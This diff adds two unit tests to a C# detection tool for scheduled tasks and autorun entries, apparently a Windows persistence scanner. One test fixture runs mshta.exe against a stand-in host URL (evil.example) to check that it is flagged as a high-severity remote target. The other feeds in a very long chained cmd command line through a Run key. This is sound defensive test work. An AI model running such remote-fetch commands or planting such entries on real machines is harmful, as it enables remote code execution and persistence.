@@ -504,4 +504,32 @@ public sealed class LauncherTests
 
         Assert.Equal(AnomalySeverity.Medium, FindingOf(launcher, LauncherCodes.TaskSystemNameUserPath)!.Severity);
     }
+
+    [Fact]
+    public void Mshta_with_a_URL_is_a_remote_target()
+    {
+        var snapshot = Snapshot(tasks: [Task(@"\Remote", Exec("mshta.exe", "https://evil.example/a.hta"))]);
+
+        var launcher = Single(CorrelationModel.Build(snapshot));
+
+        Assert.Equal("https://evil.example/a.hta", launcher.Target);
+        Assert.Equal(AnomalySeverity.High, FindingOf(launcher, LauncherCodes.RemoteTarget)!.Severity);
+        Assert.Null(FindingOf(launcher, LauncherCodes.TargetNotCollected));
+    }
+
+    [Fact]
+    public void Huge_hostile_command_line_resolves_quickly_and_caps_referenced_paths()
+    {
+        var hostile = @"cmd /c C:\a b\c d.exe & " + string.Concat(Enumerable.Range(0, 20_000).Select(i => $@"C:\x{i}\C:\y.exe & ""%Z%\"));
+        var snapshot = Snapshot(autoruns: [Autorun(AutorunKind.RunKey, @"HKCU\Run", "big", hostile)]);
+        var clock = System.Diagnostics.Stopwatch.StartNew();
+
+        var correlation = CorrelationModel.Build(snapshot);
+
+        clock.Stop();
+        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"took {clock.Elapsed}");
+        Assert.Equal(@"C:\a b\c d.exe", Single(correlation).Target);
+        Assert.Single(correlation.LaunchersOf(@"C:\a b\c d.exe"));
+        Assert.Equal(32, Single(correlation).ReferencedPaths.Length);
+    }
 }
